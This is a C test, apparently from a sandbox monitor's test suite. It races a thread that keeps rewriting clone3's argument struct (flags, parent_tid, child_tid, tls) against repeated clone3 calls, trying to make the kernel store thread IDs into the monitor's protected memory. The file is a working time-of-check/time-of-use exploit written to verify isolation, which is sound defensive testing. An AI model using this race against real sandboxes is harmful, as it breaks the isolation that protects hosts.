// Promises 1 and 5. The arguments of clone3 change while they are read: between a thread and a process that shares the
// memory, and between the payload's addresses and the monitor's for the identifiers the kernel stores.

// natively: broke
#include "attack.h"

#include <linux/sched.h>

#ifndef SYS_clone3
#define SYS_clone3 435
#endif

static struct clone_args arguments;
static int mine;
static char stack[65536];

enum { kThread = CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM };
enum { kStores = CLONE_PARENT_SETTID };

static void* swap(void* unused) {
  volatile struct clone_args* shared = &arguments;
  while (attacking()) {
    for (int i = 0; i < 200; ++i) {
      shared->parent_tid = target;
      shared->flags = CLONE_VM | CLONE_FILES | kStores;  // a process inside this memory
      shared->child_tid = target;
      shared->flags = CLONE_VM | kStores;
      shared->tls = target;
      shared->parent_tid = (uint64_t)&mine;
      shared->flags = kThread | kStores | CLONE_SETTLS;
      shared->flags = kThread | kStores;
    }
  }
  return unused;
}

// The child touches nothing that is shared: it ends at once.
static long clone_that_ends(void) {
  long result;
  register long size __asm__("rsi") = sizeof arguments;
  __asm__ volatile("syscall; test %%rax, %%rax; jnz 1f; mov $60, %%eax; xor %%edi, %%edi; syscall; hlt; 1:"
                   : "=a"(result), "+r"(size)
                   : "a"((long)SYS_clone3), "D"(&arguments)
                   : "rcx", "r11", "memory");
  return result;
}

int main(void) {
  arguments = (struct clone_args){
      .flags = kThread | kStores, .parent_tid = (uint64_t)&mine, .stack = (uint64_t)stack, .stack_size = sizeof stack};
  char before[8], after[8];
  int ends[2];
  pipe(ends);
  if (CALL(SYS_write, ends[1], target, 8) == 8) read(ends[0], before, 8);
  const pthread_t swapper = start_thread(swap, 0);
  for (int round = 0; attacking(); ++round) {
    clone_that_ends();
    while (waitpid(-1, NULL, WNOHANG | __WALL) > 0) {
    }
    if (CALL(SYS_write, ends[1], target, 8) == 8) {
      read(ends[0], after, 8);
      if (memcmp(before, after, 8) != 0) broke("round %d: an identifier was stored in the monitor", round);
    }
  }
  join(swapper);
  if (reaches(target)) broke("the monitor can be read at %#lx", target);
  held();
}
